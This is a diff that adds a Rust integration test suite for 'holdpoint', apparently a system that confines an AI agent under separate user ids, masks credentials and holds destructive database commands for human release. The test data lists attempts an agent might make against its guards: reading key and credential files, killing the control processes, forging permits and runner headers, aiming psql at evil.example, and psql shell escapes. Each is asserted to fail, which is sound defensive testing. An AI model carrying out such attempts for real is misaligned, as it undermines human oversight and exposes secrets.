@@ -1,0 +1,486 @@
+//! The wall: a control plane, a runner and an agent under three user ids on one machine, and an agent that tries.
+//!
+//! Everything here is set up by `holdpoint install system` below a directory of the test's own; only root can be three users.
+
+#![allow(
+    clippy::allow_attributes,
+    clippy::indexing_slicing,
+    clippy::panic,
+    clippy::unwrap_used,
+    reason = "what fails in a test's own functions fails the test"
+)]
+
+use std::fs;
+use std::io::{BufRead as _, BufReader, Read as _, Write as _};
+use std::os::unix::fs::{PermissionsExt as _, chown};
+use std::os::unix::net::UnixStream;
+use std::os::unix::process::CommandExt as _;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Output, Stdio};
+use std::sync::atomic::{AtomicU32, Ordering};
+use std::time::Duration;
+
+use holdpoint_api::client::{Client, Endpoint, Error};
+use holdpoint_api::v1::{OutcomeV1, ProposalV1, RUNNER_GATE, RedemptionV1, ResultV1, StatusV1, path};
+use holdpoint_core::actor::{GateId, PermitId};
+use holdpoint_core::change::{Artefact, Setting};
+use holdpoint_core::question::Answers;
+use holdpoint_testkit::browser::{Browser, Verification};
+use holdpoint_testkit::tool;
+use serde_json::Value;
+use tempfile::TempDir;
+
+/// What nobody but the program may ever see.
+const PASSWORD: &str = "correct-horse-battery";
+
+/// What stands in for `psql`: it shows what it was given, and can be told to stay.
+const PSQL: &str = r#"#!/bin/sh
+case "$*" in
+*stay*)
+    exec 3> "$ROOT/fifo"
+    setsid sh -c 'exec sleep 1000' &
+    echo "begun $$"
+    exec sleep 1000 ;;
+*status*) exit 7 ;;
+*shows*) env; echo "uid $(id -u) $(id -G)"; pwd; ls -A "$HOME"; printf %s "$PGPASSWORD" | base64; cat "$PGPASSFILE" ;;
+*" -f "*) shift; shift; cat "$@" ;;
+*) echo "ran: $*" ;;
+esac
+"#;
+
+/// A machine with three users, below a directory of its own.
+struct Machine {
+    root: TempDir,
+    agent: u32,
+    server: Child,
+    runner: Child,
+}
+
+impl Machine {
+    /// Sets the machine up, where this process may be several users.
+    fn for_test(test: &str) -> Option<Self> {
+        static COUNT: AtomicU32 = AtomicU32::new(0);
+        if !rustix::process::geteuid().is_root() {
+            tool::not_run(test, "only root can be three users");
+            return None;
+        }
+        // No two tests of this machine, in whatever process, have a user id in common.
+        let base = 1_000_000 + (std::process::id() * 8 + COUNT.fetch_add(1, Ordering::SeqCst) % 8) * 32;
+        let root = tempfile::tempdir().unwrap();
+        fs::set_permissions(root.path(), fs::Permissions::from_mode(0o755)).unwrap();
+        let (server, runner, agent) = (base, base + 1, base + 2);
+        let mut install = holdpoint(Path::new(env!("CARGO_BIN_EXE_holdpoint")), root.path());
+        install.args(["install", "system", "--person", &format!("alice={agent}"), "--users", &format!("{server},{runner}")]);
+        install.args(["--acting-from", &format!("{}", base + 8), "--acting-count", "4", "--console", "127.0.0.1:0"]);
+        let installed = install.output().unwrap();
+        assert!(installed.status.success(), "{installed:?}");
+        let program = root.path().join("usr/local/bin/holdpoint");
+        furnish(root.path(), runner, agent);
+        let (server, runner) = (start_server(&program, root.path(), server), start_runner(&program, root.path()));
+        Some(Self { root, agent, server, runner })
+    }
+
+    fn at(&self, path: &str) -> PathBuf {
+        self.root.path().join(path)
+    }
+
+    fn home(&self) -> PathBuf {
+        self.at("home/alice")
+    }
+
+    /// A command of the agent's, with an environment in which it has tried everything.
+    fn as_agent(&self, program: &str) -> Command {
+        let mut command = Command::new(program);
+        command.uid(self.agent).gid(self.agent).env_clear().current_dir(self.home()).stdin(Stdio::null());
+        command.env("HOME", self.home()).env("PATH", format!("{}:/usr/bin:/bin", self.at("usr/local/bin").display()));
+        command.env("HOLDPOINT_URL", "http://127.0.0.1:9").env("HOLDPOINT_DATA", self.home());
+        command.env("PGOPTIONS", "--evil=1").env("PGHOST", "evil.example").env("BASH_ENV", "/tmp/evil").env("LANG", "C.UTF-8");
+        command
+    }
+
+    fn holdpoint(&self) -> Command {
+        let mut command = self.as_agent(self.at("usr/local/bin/holdpoint").to_str().unwrap());
+        command.arg("--root").arg(self.root.path());
+        command
+    }
+
+    fn run(&self, words: &[&str]) -> Ran {
+        Ran::of(self.holdpoint().args(["run", "--"]).args(words).output().unwrap())
+    }
+
+    fn shell(&self, text: &str) -> Ran {
+        Ran::of(self.as_agent("/bin/sh").args(["-c", text]).env("ROOT", self.root.path()).output().unwrap())
+    }
+
+    fn credential(&self, more: &str) {
+        self.credential_for("localhost", more);
+    }
+
+    fn credential_for(&self, host: &str, more: &str) {
+        let text = format!(
+            "programs = ['psql']\n[secrets]\npassword = '{PASSWORD}'\n[variables]\nPGHOST = '{host}'\n\
+             ROOT = '{}'\nPGPASSWORD = '${{secret.password}}'\n[files]\nPGPASSFILE = 'localhost:*:*:*:${{secret.password}}'\n{more}",
+            self.root.path().display()
+        );
+        fs::write(self.at("etc/holdpoint/credentials.d/shop.toml"), text).unwrap();
+    }
+
+    /// Begins a command that stays, and gives its own process id once it runs.
+    fn begin_one_that_stays(&self) -> (Child, BufReader<std::process::ChildStdout>, String) {
+        let mut client = self.holdpoint();
+        client.args(["run", "--", "psql", "-c", "select 'stay'"]).stdout(Stdio::piped()).stderr(Stdio::piped());
+        let mut client = client.spawn().unwrap();
+        let mut output = BufReader::new(client.stdout.take().unwrap());
+        let mut line = String::new();
+        output.read_line(&mut line).unwrap();
+        let pid = line.trim().strip_prefix("begun ").unwrap_or_else(|| panic!("{line:?}")).to_owned();
+        (client, output, pid)
+    }
+
+    /// A pipe that is at its end when nothing of a command that stays is left.
+    fn until_nothing_is_left(&self) -> fs::File {
+        let path = self.at("fifo");
+        let _ = fs::remove_file(&path);
+        assert!(Command::new("mkfifo").args(["-m", "622"]).arg(&path).status().unwrap().success());
+        // For reading and writing at first, so that opening it waits for nobody.
+        fs::OpenOptions::new().read(true).write(true).open(&path).unwrap()
+    }
+}
+
+impl Drop for Machine {
+    fn drop(&mut self) {
+        for child in [&mut self.runner, &mut self.server] {
+            let _ = child.kill();
+            let _ = child.wait();
+        }
+    }
+}
+
+fn holdpoint(program: &Path, root: &Path) -> Command {
+    let mut command = Command::new(program);
+    command.env_clear().env("PATH", "/usr/sbin:/usr/bin:/sbin:/bin").current_dir("/").stdin(Stdio::null());
+    command.arg("--root").arg(root);
+    command
+}
+
+/// Gives the machine a home, a program and a credential.
+fn furnish(root: &Path, runner: u32, agent: u32) {
+    let (home, tools) = (root.join("home/alice"), root.join("tools"));
+    fs::create_dir_all(&home).unwrap();
+    chown(&home, Some(agent), Some(agent)).unwrap();
+    fs::set_permissions(&home, fs::Permissions::from_mode(0o700)).unwrap();
+    fs::create_dir(&tools).unwrap();
+    fs::write(tools.join("psql"), PSQL).unwrap();
+    fs::set_permissions(tools.join("psql"), fs::Permissions::from_mode(0o755)).unwrap();
+    let config = root.join("etc/holdpoint/config.toml");
+    let text = fs::read_to_string(&config).unwrap();
+    let path = format!("acting_count = 4\npath = \"{}:/usr/bin:/bin\"\n", tools.display());
+    fs::write(&config, text.replace("acting_count = 4\n", &path)).unwrap();
+    let credential = root.join("etc/holdpoint/credentials.d/shop.toml");
+    fs::write(&credential, "").unwrap();
+    chown(&credential, Some(runner), Some(runner)).unwrap();
+    fs::set_permissions(&credential, fs::Permissions::from_mode(0o600)).unwrap();
+}
+
+fn start_server(program: &Path, root: &Path, uid: u32) -> Child {
+    let mut server = holdpoint(program, root);
+    server.args(["up", "--system"]).uid(uid).gid(uid).stdout(Stdio::piped()).stderr(Stdio::null());
+    let mut server = server.spawn().unwrap();
+    let mut said = BufReader::new(server.stdout.take().unwrap()).lines().map_while(Result::ok);
+    assert!(said.any(|line| line.contains("enrol")), "the control plane does not start");
+    server
+}
+
+fn start_runner(program: &Path, root: &Path) -> Child {
+    let mut runner = holdpoint(program, root);
+    runner.args(["gate", "command"]).stdout(Stdio::null()).stderr(Stdio::piped());
+    let mut runner = runner.spawn().unwrap();
+    let mut said = BufReader::new(runner.stderr.take().unwrap()).lines().map_while(Result::ok);
+    assert!(said.any(|line| line.contains("listening")), "the runner does not start");
+    std::thread::spawn(move || said.for_each(|line| eprintln!("runner: {line}")));
+    runner
+}
+
+#[derive(Debug)]
+struct Ran {
+    status: Option<i32>,
+    stdout: String,
+    stderr: String,
+}
+
+impl Ran {
+    fn of(output: Output) -> Self {
+        let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
+        let ran = Self { status: output.status.code(), stdout: text(&output.stdout), stderr: text(&output.stderr) };
+        assert!(!format!("{ran:?}").contains(PASSWORD), "the agent saw the secret: {ran:?}");
+        ran
+    }
+}
+
+#[test]
+fn an_agent_reads_changes_and_stops_nothing_of_what_guards_it() {
+    let Some(machine) = Machine::for_test("an_agent_reads_changes_and_stops_nothing_of_what_guards_it") else { return };
+    machine.credential("");
+    for attempt in [
+        "cat $ROOT/var/lib/holdpoint/installation.key",
+        "cat $ROOT/var/lib/holdpoint/holdpoint.db",
+        "cat $ROOT/var/lib/holdpoint/invitations",
+        "ls $ROOT/var/lib/holdpoint",
+        "ls $ROOT/var/lib/holdpoint-runner",
+        "cat $ROOT/etc/holdpoint/credentials.d/shop.toml",
+        "ls $ROOT/etc/holdpoint/credentials.d",
+        "echo >> $ROOT/etc/holdpoint/config.toml",
+        "echo >> $ROOT/etc/holdpoint/installation.pub",
+        "rm $ROOT/etc/holdpoint/log.vkey",
+        "mv $ROOT/run/holdpoint/socket $ROOT/run/holdpoint/old",
+        "rm $ROOT/run/holdpoint/snapshot.json",
+        "rm $ROOT/run/holdpoint-runner/socket",
+        "mkdir $ROOT/var/lib/holdpoint/policy",
+        "echo >> $ROOT/usr/local/bin/holdpoint",
+        "ls $ROOT/run/holdpoint-runner/acts",
+        "holdpoint --root $ROOT up --system --listen 127.0.0.1:0",
+        "holdpoint --root $ROOT up --listen 127.0.0.1:0",
+        "holdpoint --root $ROOT gate command",
+        "holdpoint --root $ROOT gate command --holding",
+        "holdpoint --root $ROOT install system --person alice=0",
+        "holdpoint --root $ROOT policy sign $HOME",
+    ] {
+        let ran = machine.shell(attempt);
+        assert_ne!(ran.status, Some(0), "{attempt}: {ran:?}");
+    }
+    for child in [&machine.server, &machine.runner] {
+        let ran = machine.shell(&format!("kill -TERM {pid} || kill -KILL {pid} || cat /proc/{pid}/environ", pid = child.id()));
+        assert_ne!(ran.status, Some(0), "{ran:?}");
+    }
+    let status: StatusV1 = serde_json::from_value(machine.status()).unwrap();
+    assert_eq!(status.mode.as_str(), "enforcing");
+}
+
+impl Machine {
+    /// Speaks to the control plane as the agent would, and gives the answer's status and body.
+    fn api(&self, method: &str, path: &str, headers: &str, body: &str) -> (u16, Value) {
+        // The peer of a socket is whoever connects, so somebody with the agent's user id has to.
+        let request = format!(
+            "{method} {path} HTTP/1.1\r\nhost: holdpoint\r\nconnection: close\r\ncontent-length: {}\r\n\
+             content-type: application/json\r\n{headers}\r\n{body}",
+            body.len()
+        );
+        let script = "import socket,sys\ns=socket.socket(socket.AF_UNIX)\ns.connect(sys.argv[1])\n\
+            s.sendall(sys.stdin.buffer.read())\nwhile True:\n d=s.recv(65536)\n if not d: break\n sys.stdout.buffer.write(d)\n";
+        let mut python = self.as_agent("python3");
+        python.args(["-c", script]).arg(self.at("run/holdpoint/socket")).stdin(Stdio::piped()).stdout(Stdio::piped());
+        let mut python = python.spawn().unwrap();
+        python.stdin.take().unwrap().write_all(request.as_bytes()).unwrap();
+        let answer = String::from_utf8(python.wait_with_output().unwrap().stdout).unwrap();
+        let status = answer.split(' ').nth(1).unwrap().parse().unwrap();
+        let body = answer.split_once("\r\n\r\n").map_or("", |(_, body)| body);
+        (status, serde_json::from_str(body).unwrap_or(Value::Null))
+    }
+
+    fn status(&self) -> Value {
+        let (status, body) = self.api("GET", path::STATUS, "", "");
+        assert_eq!(status, 200, "{body}");
+        body
+    }
+}
+
+#[test]
+fn an_agent_speaks_for_nobody_but_itself() {
+    let Some(machine) = Machine::for_test("an_agent_speaks_for_nobody_but_itself") else { return };
+    let proposal = |gate: &str| ProposalV1 {
+        gate: GateId::parse(gate).unwrap(),
+        artefact: Artefact::Argv { argv: vec!["psql".into(), "-c".into(), "drop table orders".into()] },
+        setting: Setting { directory: "/".into(), variables: Default::default(), target: "credential:shop".into() },
+        answers: Answers::default(),
+        act: None,
+        said: None,
+    };
+    let json = |value: &ProposalV1| serde_json::to_string(value).unwrap();
+    let (status, answer) = machine.api("POST", path::PROPOSALS, "", &json(&proposal("command")));
+    assert_eq!((status, &answer["decision"]), (200, &Value::from("hold")));
+    let (status, answer) = machine.api("POST", path::PROPOSALS, "", &json(&proposal(RUNNER_GATE)));
+    assert_eq!((status, &answer["error"]), (403, &Value::from("forbidden")));
+    let acting = format!("holdpoint-acts-for: {}\r\n", machine.agent);
+    let (status, answer) = machine.api("POST", path::PROPOSALS, &acting, &json(&proposal(RUNNER_GATE)));
+    assert_eq!((status, &answer["error"]), (403, &Value::from("not-the-runner")));
+    let redemption = RedemptionV1 { permit: "forged".into(), seen: proposal(RUNNER_GATE) };
+    let (status, _) = machine.api("POST", path::REDEMPTIONS, "", &serde_json::to_string(&redemption).unwrap());
+    assert!(status >= 400);
+    let outcome = OutcomeV1 {
+        permit: PermitId::parse("prm-1").unwrap(),
+        act: None,
+        gate: GateId::parse(RUNNER_GATE).unwrap(),
+        result: ResultV1::NotStarted { why: "so I say".into() },
+    };
+    let (status, _) = machine.api("POST", path::OUTCOMES, "", &serde_json::to_string(&outcome).unwrap());
+    assert_eq!(status, 403);
+    // Root is nobody to the control plane either: this process asks as root.
+    let client = Client::new(Endpoint::Unix(machine.at("run/holdpoint/socket")), Duration::from_secs(10));
+    assert!(matches!(client.get::<StatusV1>(path::STATUS), Err(Error::Answered { status: 403, .. })));
+    // The launcher believes nobody but the runner; not even root.
+    let mut launcher = UnixStream::connect(machine.at("run/holdpoint-runner/launcher")).unwrap();
+    let _ = launcher.write_all(b"r\0\0\0\x02{}");
+    let mut answer = Vec::new();
+    let _ = launcher.read_to_end(&mut answer);
+    assert_eq!(answer, b"");
+}
+
+#[test]
+fn what_needs_no_credential_is_the_agents_own() {
+    let Some(machine) = Machine::for_test("what_needs_no_credential_is_the_agents_own") else { return };
+    machine.credential("");
+    let ran = machine.run(&["id", "-u"]);
+    assert_eq!((ran.status, ran.stdout.trim()), (Some(0), machine.agent.to_string().as_str()), "{ran:?}");
+    let ran = machine.run(&["env"]);
+    assert!(ran.stdout.contains("PGOPTIONS=--evil=1"), "its environment is its own: {ran:?}");
+    fs::write(machine.home().join("notes"), "once").unwrap();
+    let ran = machine.run(&["rm", "notes"]);
+    assert_eq!(ran.status, Some(123), "{ran:?}");
+}
+
+#[test]
+fn a_credential_is_used_and_never_seen() {
+    let Some(machine) = Machine::for_test("a_credential_is_used_and_never_seen") else { return };
+    machine.credential("");
+    let ran = machine.run(&["psql", "-X", "-c", "select 'shows'"]);
+    assert_eq!(ran.status, Some(0), "{ran:?}");
+    for given in ["PGHOST=localhost", "PGPASSWORD=[masked]", "LANG=C.UTF-8", "localhost:*:*:*:[masked]"] {
+        assert!(ran.stdout.contains(given), "{given}: {ran:?}");
+    }
+    for withheld in ["PGOPTIONS", "evil", "HOLDPOINT", "BASH_ENV"] {
+        assert!(!ran.stdout.contains(withheld), "{withheld}: {ran:?}");
+    }
+    assert!(ran.stdout.contains("\n[masked]"), "base 64 is masked as well: {ran:?}");
+    let acting = format!("uid {}", machine.agent - 2 + 8);
+    assert!(ran.stdout.contains(&acting), "{acting}: {ran:?}");
+    assert!(ran.stdout.contains(&format!("{} {}\n", acting, machine.agent - 2 + 8)), "it is in no other group: {ran:?}");
+    assert_eq!(machine.run(&["psql", "-c", "select 'status'"]).status, Some(7), "its status is passed on");
+    machine.credential_for("db.shop.example", "");
+    assert_eq!(machine.run(&["psql", "-c", "select 1"]).status, Some(0), "a read passes wherever it is aimed");
+    assert_eq!(machine.run(&["psql", "-c", "drop table orders"]).status, Some(123));
+    let acts = fs::read_dir(machine.at("run/holdpoint-runner/acts")).unwrap();
+    for place in acts {
+        assert_eq!(fs::read_dir(place.unwrap().path()).unwrap().count(), 0, "nothing of an act is left");
+    }
+}
+
+#[test]
+fn what_could_take_a_credential_elsewhere_is_held() {
+    let Some(machine) = Machine::for_test("what_could_take_a_credential_elsewhere_is_held") else { return };
+    machine.credential("");
+    let link = machine.home().join("link.sql");
+    std::os::unix::fs::symlink(machine.at("etc/holdpoint/credentials.d/shop.toml"), &link).unwrap();
+    let stolen = machine.at("etc/holdpoint/credentials.d/shop.toml").display().to_string();
+    for words in [
+        &["psql", "-h", "evil.example", "-c", "select 1"][..],
+        &["psql", "-c", "select 1", "host = evil.example"],
+        &["psql", "-p", "9999", "-c", "select 1"],
+        &["psql", "-c", "\\! env"],
+        &["psql", "-f", &stolen],
+        &["psql", "-f", "link.sql"],
+    ] {
+        let ran = machine.run(words);
+        assert_eq!(ran.status, Some(123), "{words:?}: {ran:?}");
+        assert!(ran.stdout.is_empty(), "{words:?}: {ran:?}");
+    }
+    for program in ["/bin/sh", "./psql"] {
+        let ran = machine.run(&[program, "-c", "echo $PGPASSWORD"]);
+        assert_ne!(ran.status, Some(123), "it is not the runner's, and gets nothing of it: {ran:?}");
+    }
+}
+
+#[test]
+fn the_program_gets_the_text_that_was_decided_about_and_nothing_that_lies_beside_it() {
+    let test = "the_program_gets_the_text_that_was_decided_about_and_nothing_that_lies_beside_it";
+    let Some(machine) = Machine::for_test(test) else { return };
+    machine.credential("");
+    fs::create_dir(machine.home().join("sql")).unwrap();
+    for (name, text) in [("sql/report.sql", "select 1 -- the report"), (".psqlrc", "\\! env")] {
+        let path = machine.home().join(name);
+        fs::write(&path, text).unwrap();
+        chown(&path, Some(machine.agent), Some(machine.agent)).unwrap();
+    }
+    chown(machine.home().join("sql"), Some(machine.agent), Some(machine.agent)).unwrap();
+    let whole = machine.home().join("sql/report.sql").display().to_string();
+    for words in [&["psql", "-X", "-f", "sql/report.sql"][..], &["psql", "-X", "-f", &whole]] {
+        let ran = machine.run(words);
+        assert_eq!((ran.status, ran.stdout.as_str()), (Some(0), "select 1 -- the report"), "{words:?}: {ran:?}");
+    }
+}
+
+#[test]
+fn a_held_act_runs_once_when_a_person_has_released_it() {
+    let test = "a_held_act_runs_once_when_a_person_has_released_it";
+    let Some(browser) = Browser::for_test(test).unwrap() else { return };
+    let Some(machine) = Machine::for_test(test) else { return };
+    machine.credential("");
+    let act = ["psql", "-c", "drop table orders"];
+    let held = machine.run(&act);
+    assert_eq!((held.status, held.stdout.as_str()), (Some(123), ""), "{held:?}");
+    let card = held.stderr.split_whitespace().find(|word| word.contains("/changes/sha256:")).unwrap();
+    assert!(held.stderr.contains("the confirmation of the person"), "{held:?}");
+    let invitations = fs::read_to_string(machine.at("var/lib/holdpoint/invitations")).unwrap();
+    let enrol = invitations.lines().find(|line| line.contains("alice")).unwrap().split_whitespace().next().unwrap();
+
+    let page = browser.visitor().unwrap();
+    let _passkey = page.plug_in(Verification::Passes).unwrap();
+    page.go(enrol).unwrap();
+    page.press("#begin").unwrap();
+    page.read("alice this computer").unwrap();
+    page.go(&format!("{card}?as=alice")).unwrap();
+    page.read("credential").unwrap();
+    page.press("#release").unwrap();
+    page.read("This change is released").unwrap();
+
+    assert_eq!(machine.run(&["psql", "-c", "drop table customers"]).status, Some(123), "another act is another change");
+    let ran = machine.run(&act);
+    assert_eq!((ran.status, ran.stdout.as_str()), (Some(0), "ran: -c drop table orders\n"), "{ran:?}");
+    assert_eq!(machine.run(&act).status, Some(123), "a permit is spent once");
+}
+
+#[test]
+fn a_signal_reaches_the_act_and_its_end_is_told() {
+    let Some(machine) = Machine::for_test("a_signal_reaches_the_act_and_its_end_is_told") else { return };
+    machine.credential("");
+    let fifo = machine.until_nothing_is_left();
+    let (client, mut output, pid) = machine.begin_one_that_stays();
+    let tried = machine.shell(&format!("cat /proc/{pid}/environ || kill -KILL {pid}"));
+    assert_ne!(tried.status, Some(0), "the act is not the agent's to look at: {tried:?}");
+    assert!(machine.shell(&format!("kill -TERM {}", client.id())).status == Some(0));
+    let mut rest = String::new();
+    output.read_to_string(&mut rest).unwrap();
+    assert_eq!(client.wait_with_output().unwrap().status.code(), Some(143));
+    nothing_is_left(&machine, fifo);
+}
+
+#[test]
+fn when_the_caller_is_gone_everything_it_began_is_ended() {
+    let Some(machine) = Machine::for_test("when_the_caller_is_gone_everything_it_began_is_ended") else { return };
+    machine.credential("");
+    let fifo = machine.until_nothing_is_left();
+    let (mut client, _, _) = machine.begin_one_that_stays();
+    client.kill().unwrap();
+    client.wait().unwrap();
+    nothing_is_left(&machine, fifo);
+}
+
+#[test]
+fn an_act_whose_time_is_over_is_ended_with_all_it_began() {
+    let Some(machine) = Machine::for_test("an_act_whose_time_is_over_is_ended_with_all_it_began") else { return };
+    machine.credential("[limits]\nseconds = 1\n");
+    let fifo = machine.until_nothing_is_left();
+    let (client, _output, _) = machine.begin_one_that_stays();
+    let ended = client.wait_with_output().unwrap();
+    assert_eq!(ended.status.code(), Some(137));
+    assert!(String::from_utf8_lossy(&ended.stderr).contains("its time was over"), "{ended:?}");
+    nothing_is_left(&machine, fifo);
+}
+
+/// Waits until nobody holds the pipe open any more, whatever session or group they hid in.
+fn nothing_is_left(machine: &Machine, opened: fs::File) {
+    let mut reading = fs::File::open(machine.at("fifo")).unwrap();
+    drop(opened);
+    let mut rest = Vec::new();
+    reading.read_to_end(&mut rest).unwrap();
+    assert_eq!(rest, b"");
+}
